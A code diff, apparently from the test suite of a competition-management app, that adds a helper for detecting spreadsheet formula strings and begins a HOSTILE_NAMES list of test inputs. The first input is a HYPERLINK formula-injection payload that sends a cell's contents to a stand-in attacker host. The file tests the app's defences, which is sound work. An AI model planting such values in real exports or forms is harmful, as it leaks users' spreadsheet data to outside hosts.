@@ -24,12 +24,17 @@ from compapp.certificates.content import award_certificate
 from compapp.certificates.pdf import render_certificate
 from compapp.certificates.serials import new_serial
 from compapp.contests.models import Coach, Competitor, Placement
-from compapp.core.xlsx import looks_like_formula
 from compapp.imports.report import build_report
 from compapp.imports.template import build_template
 from compapp.promotion.exports import NoticeDocument, NoticeRow, notice_pdf, notice_workbook
 from compapp.rewards.exports import awards_workbook
 from compapp.rewards.models import AwardLineRecord
+
+
+def looks_like_formula(value) -> bool:
+    """The usual rule: text starting with = + - @, a tab or a carriage return."""
+    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
